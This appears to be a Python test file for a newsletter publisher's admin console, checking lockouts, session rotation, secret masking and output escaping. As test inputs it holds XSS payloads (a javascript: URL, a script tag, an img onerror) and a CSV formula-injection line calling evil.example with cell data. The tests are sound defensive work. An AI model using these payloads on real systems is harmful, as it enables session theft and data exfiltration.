"""The console under an outside review (issue 13's security list): failed sign-ins in the audit
log, new session ids when the second factor changes, a lockout an attacker cannot hold over
every admin, and what the pages show of secrets and stored URLs."""

from __future__ import annotations

import re
from datetime import date, timedelta
from html import unescape as html_unescape
from pathlib import Path

import pyotp
import pytest
from flask.testing import FlaskClient
from sqlalchemy import make_url
from test_admin_security import audit_actions, console_site, login

from admin_session import COOKIE, PASSWORD, csrf_of, make_account, signed_in_client, turn_second_factor_on
from conftest import Site
from publisher.web import create_app
from publisher.web.admin.auth import DEVICE_COOKIE

__all__ = ["console_site"]  # the fixture, used by name


def test_failed_sign_ins_are_in_the_audit_log(console_site: Site) -> None:
    secret = pyotp.random_base32()
    make_account(console_site, "admin@example.org")
    make_account(console_site, "two@example.org", totp_secret=secret, totp_enabled=True)
    client = create_app(console_site.app()).test_client()
    assert login(client, "admin@example.org", "wrong password!").status_code == 403
    assert login(client, "nobody@example.org", PASSWORD).status_code == 403
    assert login(client, "two@example.org", PASSWORD).status_code == 303  # the code page next
    code = csrf_of(client, "/admin/login/code")
    assert client.post("/admin/login/code", data={"csrf": code, "code": "000000"}).status_code == 403
    failed = [(who, target, detail) for who, what, target, detail in audit_actions(console_site, detail=True)
              if what == "account.sign_in_failed"]  # fmt: skip
    assert failed == [
        ("(not signed in)", "admin@example.org", "wrong password"),
        ("(not signed in)", "two@example.org", "wrong second-factor code"),
    ]  # not an address without an account: anyone may type any number of those


def test_a_locked_account_adds_no_row_per_try(console_site: Site) -> None:
    """However many networks keep guessing, the log grows by 10 failures and the lockout."""
    make_account(console_site, "admin@example.org")
    client = create_app(console_site.app()).test_client()
    token = csrf_of(client, "/admin/login")
    for n in range(25):
        guess = {"csrf": token, "email": "admin@example.org", "password": "a guess of theirs"}
        assert client.post("/admin/login", data=guess, environ_base={"REMOTE_ADDR": f"198.51.{n}.7"}).status_code == 403
    actions = [what for _who, what, _target, _address in audit_actions(console_site)]
    assert actions == ["account.sign_in_failed"] * 10 + ["account.locked"]


def test_turning_the_second_factor_on_or_off_gives_a_new_session_and_signs_out_the_others(
    console_site: Site,
) -> None:
    here = signed_in_client(console_site)
    there = create_app(console_site.app()).test_client()
    assert login(there, "admin@example.org", PASSWORD).status_code == 303
    old_cookie = cookie_of(here)
    secret = turn_second_factor_on(console_site, here)
    assert cookie_of(here) != old_cookie and here.get("/admin/").status_code == 200
    assert there.get("/admin/").status_code == 303  # signed in with the password alone: out now
    stale = create_app(console_site.app()).test_client()
    stale.set_cookie(COOKIE, old_cookie, path="/admin")
    assert stale.get("/admin/").status_code == 303  # the id from before the change is void

    assert login(there, "admin@example.org", PASSWORD).status_code == 303
    console_site.clock_now += timedelta(seconds=30)
    code_token = csrf_of(there, "/admin/login/code")
    code = pyotp.TOTP(secret).at(console_site.clock_now)
    assert there.post("/admin/login/code", data={"csrf": code_token, "code": code}).status_code == 303
    before_off = cookie_of(here)
    off = here.post("/admin/account/totp/off", data={"csrf": csrf_of(here), "current": PASSWORD})
    assert off.status_code == 200 and cookie_of(here) != before_off
    assert there.get("/admin/").status_code == 303 and here.get("/admin/").status_code == 200
    stale.set_cookie(COOKIE, before_off, path="/admin")
    assert stale.get("/admin/").status_code == 303


def cookie_of(client: FlaskClient) -> str:
    cookie = client.get_cookie(COOKIE, path="/admin")
    assert cookie is not None
    return cookie.value


STRANGER = {"REMOTE_ADDR": "198.51.100.7"}  # another network than the owner's 127.0.0.1


def test_someone_elses_wrong_passwords_never_lock_the_owner_out(console_site: Site) -> None:
    owner = signed_in_client(console_site)  # signed in here before: a trusted browser
    owner.post("/admin/logout", data={"csrf": csrf_of(owner)})
    attacker = create_app(console_site.app()).test_client()
    token = csrf_of(attacker, "/admin/login")
    for _ in range(10):
        wrong = {"csrf": token, "email": "admin@example.org", "password": "a guess of theirs"}
        assert attacker.post("/admin/login", data=wrong, environ_base=STRANGER).status_code == 403
    right = {"csrf": token, "email": "admin@example.org", "password": PASSWORD}
    assert attacker.post("/admin/login", data=right, environ_base=STRANGER).status_code == 403  # locked
    newcomer = create_app(console_site.app()).test_client()
    assert login(newcomer, "admin@example.org", PASSWORD).status_code == 403  # locked for a new browser too
    assert login(owner, "admin@example.org", PASSWORD).status_code == 303  # not for the owner's
    assert owner.get("/admin/").status_code == 200
    # The device cookie is the account's own, signed: altered or another's, it passes nothing.
    device = owner.get_cookie(DEVICE_COOKIE, path="/admin/login")
    assert device is not None
    account_id, issued, nonce, mac = device.value.split(".")
    for forged in (
        f"{account_id}.{int(issued) + 1}.{nonce}.{mac}",
        f"{account_id}.{issued}.{nonce}.{'0' * 64}",
        f"{account_id}.{issued}.{'0' * 16}.{mac}",
        "1.2.3.4",
    ):
        newcomer.set_cookie(DEVICE_COOKIE, forged, path="/admin/login")
        assert login(newcomer, "admin@example.org", PASSWORD).status_code == 403, forged


def test_the_lockout_does_not_tell_which_addresses_have_an_account(console_site: Site) -> None:
    """A locked account answers as a wrong password does. Someone trying a real address and a
    made-up one alike (10 wrong passwords, then one a minute for 20 minutes, past the lockout)
    gets the same pages for both, and for the real one the right password gets it too."""
    make_account(console_site, "admin@example.org")
    client = create_app(console_site.app()).test_client()
    start = console_site.clock_now
    pages = {}
    for email in ("admin@example.org", "nobody@example.org"):
        console_site.clock_now = start
        seen = []
        for minute in [0] * 10 + list(range(1, 21)):
            console_site.clock_now = start + timedelta(minutes=minute)
            answer = login(client, email, "wrong password!")
            seen.append((answer.status_code, re.sub(r'value="[^"]*"', "", answer.get_data(as_text=True))))
        pages[email] = seen
        start += timedelta(days=2)  # the other address's tries long forgotten
    assert pages["admin@example.org"] == pages["nobody@example.org"]
    assert pages["nobody@example.org"][9][0] == 403 and "暂时锁定" in pages["nobody@example.org"][9][1]
    console_site.clock_now = start - timedelta(days=4) + timedelta(minutes=5)  # the real one, while locked
    right = {"csrf": csrf_of(client, "/admin/login"), "email": "admin@example.org", "password": PASSWORD}
    locked = client.post("/admin/login", data=right, environ_base=STRANGER)  # its own network: not throttled
    assert (locked.status_code, re.sub(r'value="[^"]*"', "", locked.get_data(as_text=True))) == pages[
        "admin@example.org"
    ][0]


@pytest.mark.postgresql_only("a PostgreSQL URL with a password")
def test_the_settings_page_shows_no_password_of_the_stores_url(console_site: Site) -> None:
    from backends import new_postgres_url
    from publisher.accounts import HASHER
    from publisher.store import Store

    url = new_postgres_url()
    # The local server trusts 127.0.0.1, so the password is not checked, only carried.
    with_password = make_url(url).set(password="s3cret-Db-pass").render_as_string(hide_password=False)
    text = console_site.config.read_text(encoding="utf-8")
    console_site.config.write_text(text.replace(f'url = "{console_site.store_url}"', f'url = "{with_password}"'))
    store = Store(with_password)
    account = store.add_account("admin@example.org", "admin", console_site.clock_now)
    store.update_account(account.id, password_hash=HASHER.hash(PASSWORD))
    store.close()
    client = create_app(console_site.app()).test_client()
    assert login(client, "admin@example.org", PASSWORD).status_code == 303
    page = client.get("/admin/settings").get_data(as_text=True)
    assert "s3cret-Db-pass" not in page
    assert make_url(with_password).render_as_string(hide_password=True) in page  # the rest is shown


def test_what_a_site_put_in_a_failed_url_or_error_never_runs_in_the_console(console_site: Site) -> None:
    from lxml import html

    from publisher.model import ScopeRead
    from publisher.store import Store

    client = signed_in_client(console_site, "viewer@example.org", "viewer")
    store = Store(console_site.store_url)
    store.record_health(
        Path(console_site.content).name,
        [
            ScopeRead(
                "", "javascript:alert(document.cookie)", '<script>alert("error")</script>', "<img src=x onerror=x>"
            )
        ],
        console_site.clock_now,
    )
    store.close()
    for path in ("/admin/sources", "/admin/"):
        text = client.get(path).get_data(as_text=True)
        page = html.fromstring(text)
        assert "javascript:alert(document.cookie)" in page.text_content(), path  # shown, as text
        assert not page.xpath("//a[starts-with(normalize-space(@href), 'javascript:')]"), path
        assert not page.xpath("//script[not(@src)]") and not page.xpath("//img[@onerror]"), path
        assert "&lt;script&gt;" in text, path


def test_a_session_left_open_is_no_way_to_guess_the_password(console_site: Site) -> None:
    """ "My account" asks for the password again before a change: ten wrong ones lock the
    account and sign it out everywhere, as at the sign-in form."""
    client = signed_in_client(console_site)
    other = create_app(console_site.app()).test_client()
    assert login(other, "admin@example.org", PASSWORD).status_code == 303
    token = csrf_of(client)
    for n in range(10):
        guess = {
            "csrf": token,
            "current": f"guess number {n}",
            "password": "a new passphrase",
            "again": "a new passphrase",
        }
        path = "/admin/account/password" if n % 2 else "/admin/account/totp/off"
        answer = client.post(path, data=guess)
        assert answer.status_code == (303 if n == 9 else 403), n
    assert client.get("/admin/").status_code == 303 and other.get("/admin/").status_code == 303
    assert login(create_app(console_site.app()).test_client(), "admin@example.org", PASSWORD).status_code == 403
    actions = [what for _who, what, _target, _detail in audit_actions(console_site, detail=True)]
    assert actions.count("account.password_check_failed") == 10 and "account.locked" in actions


def test_every_page_renders_in_chinese_and_in_english(console_site: Site) -> None:
    """Issue 13, item 7: each GET page of the blueprint, with a reader and a digest to show, in
    both languages (a word missing from a catalogue is an error, never a blank)."""
    from test_admin_security import admin_routes

    from publisher.model import Subscriber, SubscriberStatus
    from publisher.newsletter import Newsletter

    console_site.article("policy/a.md", "《人才十条》政策要点解读", date="2026-11-10 09:00")
    console_site.build()
    app = console_site.app()
    try:
        now = app.clock()
        app.store.save_subscribers([Subscriber("r@example.com", "读者", (), SubscriberStatus.CONFIRMED, now, "t", now)])
        letters = Newsletter(app)
        digest = letters.plan(letters.window(date(2026, 11, 1), date(2026, 11, 19))).digest
        reader = app.store.subscriber("r@example.com")
        assert reader is not None
        ids = {"subscriber_id": reader.id, "digest_id": digest.id}
    finally:
        app.close()
    client = signed_in_client(console_site)
    skipped = {"admin.preview_html", "admin.export", "admin.digest_progress", "admin.set_password", "admin.login_code"}
    for language, nav in (("zh-CN", "订阅者"), ("en", "Subscribers")):
        text = console_site.config.read_text(encoding="utf-8")
        console_site.config.write_text(re.sub(r'language = "[^"]+"', f'language = "{language}"', text, count=1))
        web = create_app(console_site.app())
        client.application = web  # the same browser (its session is in the store) on the new app
        pages = 0
        for endpoint, method, _url in admin_routes(web):
            if method != "GET" or endpoint in skipped:
                continue
            rule = next(r for r in web.url_map.iter_rules() if r.endpoint == endpoint)
            url = web.url_map.bind("localhost").build(endpoint, {name: ids[name] for name in rule.arguments})
            answer = client.get(url)
            if endpoint == "admin.login_form":
                assert answer.status_code == 303, url  # signed in already
                continue
            page = answer.get_data(as_text=True)
            assert answer.status_code == 200 and f'<html lang="{language}">' in page and nav in page, (language, url)
            pages += 1
        assert pages >= 12


def test_the_import_takes_a_large_file_refuses_a_huge_one_and_the_export_holds_no_formula(console_site: Site) -> None:
    import csv
    import io

    from publisher.web.admin.subscribers import IMPORT_LIMIT

    client = signed_in_client(console_site)
    token = csrf_of(client, "/admin/subscribers")
    formula = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    lines = [f"reader{n}@example.com,读者{n}" for n in range(4000)] + [
        f'formula@example.com,"{formula.replace(chr(34), chr(34) * 2)}"'
    ]
    large = ("email,name\n" + "\n".join(lines) + "\n").encode()
    assert 64 * 1024 < len(large) < IMPORT_LIMIT  # over the app's form limit, within the import's
    answer = client.post("/admin/subscribers/import", content_type="multipart/form-data",
                         data={"csrf": token, "file": (io.BytesIO(large), "many.csv")})  # fmt: skip
    assert answer.status_code == 200 and "新增 4001" in answer.get_data(as_text=True)
    huge = b"email,name\n" + b"x" * IMPORT_LIMIT
    refused = client.post("/admin/subscribers/import", content_type="multipart/form-data",
                          data={"csrf": token, "file": (io.BytesIO(huge), "huge.csv")})  # fmt: skip
    assert refused.status_code == 413 and "20 MB" in refused.get_data(as_text=True)
    exported = client.get("/admin/subscribers/export.csv").get_data(as_text=True)
    row = next(r for r in csv.DictReader(io.StringIO(exported)) if r["email"] == "formula@example.com")
    assert row["name"] == "'" + formula  # shown as text by a spreadsheet
    assert not any(
        cell[:1] in ("=", "+", "-", "@", "\t", "\r") for r in csv.reader(io.StringIO(exported)) for cell in r
    )


def test_the_next_page_of_a_search_searches_the_same_text(console_site: Site) -> None:
    from urllib.parse import parse_qs, urlsplit

    from lxml import html

    from publisher.model import Subscriber, SubscriberStatus
    from publisher.store import Store

    client = signed_in_client(console_site)
    store = Store(console_site.store_url)
    now = console_site.clock_now
    store.save_subscribers(
        Subscriber(f"r{n}@example.com", f"A&B #{n} 1+1", (), SubscriberStatus.CONFIRMED, now, "t", now)
        for n in range(60)
    )
    store.close()
    page = html.fromstring(client.get("/admin/subscribers", query_string={"q": "A&B #"}).get_data(as_text=True))
    [link] = page.xpath("//a[@id='next-page']/@href")
    assert parse_qs(urlsplit(link).query)["q"] == ["A&B #"]
    second = html.fromstring(client.get(link).get_data(as_text=True))
    assert second.xpath("//a[contains(@href, '/admin/subscribers/')]")  # the rest of the 60 found again


def test_sign_in_goes_back_to_the_page_asked_for_with_its_query(console_site: Site) -> None:
    make_account(console_site)
    client = create_app(console_site.app()).test_client()
    asked = client.get("/admin/subscribers?q=a&status=confirmed")
    assert asked.status_code == 303
    form = client.get(asked.headers["Location"]).get_data(as_text=True)
    token = re.search(r'name="csrf" value="([^"]+)"', form)
    nxt = re.search(r'name="next" value="([^"]*)"', form)
    assert token and nxt
    data = {
        "csrf": token.group(1),
        "email": "admin@example.org",
        "password": PASSWORD,
        "next": html_unescape(nxt.group(1)),
    }
    signed_in = client.post("/admin/login", data=data)
    assert signed_in.status_code == 303 and signed_in.headers["Location"] == "/admin/subscribers?q=a&status=confirmed"


def test_signing_out_ends_the_session_on_the_server(console_site: Site) -> None:
    """The old cookie, sent again after sign-out (a copy kept by someone else), opens nothing."""
    client = signed_in_client(console_site)
    kept = cookie_of(client)
    assert client.post("/admin/logout", data={"csrf": csrf_of(client)}).status_code == 303
    replay = create_app(console_site.app()).test_client()
    replay.set_cookie(COOKIE, kept, path="/admin")
    assert replay.get("/admin/").status_code == 303
    assert replay.post("/admin/logout", data={"csrf": "x"}).status_code == 403


def test_the_code_that_turned_the_second_factor_on_is_used_up(console_site: Site) -> None:
    """A phone a step ahead gives the next step's code; it must not sign in a second time."""
    client = signed_in_client(console_site)
    token = csrf_of(client)
    enrol = client.post("/admin/account/totp", data={"csrf": token}).get_data(as_text=True)
    secret = re.search(r'id="totp-secret">([A-Z2-7]+)<', enrol)
    assert secret
    totp = pyotp.TOTP(secret.group(1))
    ahead = totp.at(console_site.clock_now + timedelta(seconds=30))
    assert ahead != totp.at(console_site.clock_now)
    on = client.post("/admin/account/totp/confirm", data={"csrf": token, "current": PASSWORD, "code": ahead})
    assert on.status_code == 200 and "<code>" in on.get_data(as_text=True)
    client.post("/admin/logout", data={"csrf": csrf_of(client)})
    console_site.clock_now += timedelta(seconds=30)  # the step that code belongs to
    assert login(client, "admin@example.org", PASSWORD).status_code == 303
    code_token = csrf_of(client, "/admin/login/code")
    assert client.post("/admin/login/code", data={"csrf": code_token, "code": ahead}).status_code == 403


def test_a_new_password_keeps_the_browser_trusted_and_the_link_makes_it_so(console_site: Site) -> None:
    """Nobody can lock out an owner who just chose a password (by the link, or on My account)."""
    from publisher.accounts import open_password_link
    from publisher.store import Store

    here = signed_in_client(console_site)
    new = {"csrf": csrf_of(here), "current": PASSWORD, "password": "a new passphrase", "again": "a new passphrase"}
    assert here.post("/admin/account/password", data=new).status_code == 200
    store = Store(console_site.store_url)
    added = store.add_account("new@example.org", "editor", console_site.clock_now)
    token = open_password_link(store, added, console_site.clock_now)
    store.close()
    newcomer = create_app(console_site.app()).test_client()
    path = f"/admin/password/{token}"
    chosen = {"csrf": csrf_of(newcomer, path), "password": "their own passphrase", "again": "their own passphrase"}
    assert newcomer.post(path, data=chosen).status_code == 200
    attacker = create_app(console_site.app()).test_client()
    for email in ("admin@example.org", "new@example.org"):
        for _ in range(10):
            guess = {"csrf": csrf_of(attacker, "/admin/login"), "email": email, "password": "a guess of theirs"}
            attacker.post("/admin/login", data=guess, environ_base=STRANGER)
    for email, password in (("admin@example.org", "a new passphrase"), ("new@example.org", "their own passphrase")):
        assert login(create_app(console_site.app()).test_client(), email, password).status_code == 403  # locked
    here.post("/admin/logout", data={"csrf": csrf_of(here)})
    assert login(here, "admin@example.org", "a new passphrase").status_code == 303
    assert login(newcomer, "new@example.org", "their own passphrase").status_code == 303


@pytest.mark.parametrize(
    ("url", "shown"),
    [
        ("postgresql+psycopg://news:s3cret@db.internal/news", "postgresql+psycopg://news:***@db.internal/news"),
        ("postgresql+psycopg://news@db/news?password=s3cret&sslmode=require",
         "postgresql+psycopg://news@db/news?password=***&sslmode=require"),
        ("https://cms.example.org/api/articles?page={page}&api_key=s3cret",
         "https://cms.example.org/api/articles?page={page}&api_key=***"),
        ("https://oapi.dingtalk.com/robot/send?Access_Token=s3cret", "https://oapi.dingtalk.com/robot/send?Access_Token=***"),
        ("sqlite:///var/publisher.db", "sqlite:///var/publisher.db"),
        ("https://gitlab.example.org/news.atom?feed_token=s3cret&x-api-key=s3cret",
         "https://gitlab.example.org/news.atom?feed_token=***&x-api-key=***"),
        ("https://s3cret@cms.example.org/api", "https://***@cms.example.org/api"),
        ("https://cms.example.org/cb#access_token=s3cret", "https://cms.example.org/cb#access_token=***"),
        ("postgresql://news:s3cret@[bad/news", "***"),
        ("https://www.example.org/news/?page=2&category=news", "https://www.example.org/news/?page=2&category=news"),
    ],
)  # fmt: skip
def test_the_settings_page_hides_every_secret_a_url_carries(url: str, shown: str) -> None:
    """A password in `user:password@` or in a query parameter named as a secret (psycopg takes
    `?password=` as the password); other parameters and URLs stay as they are."""
    from publisher.web.admin.audit import without_passwords

    assert without_passwords({"store": {"url": url}, "list": [url]}) == {"store": {"url": shown}, "list": [shown]}
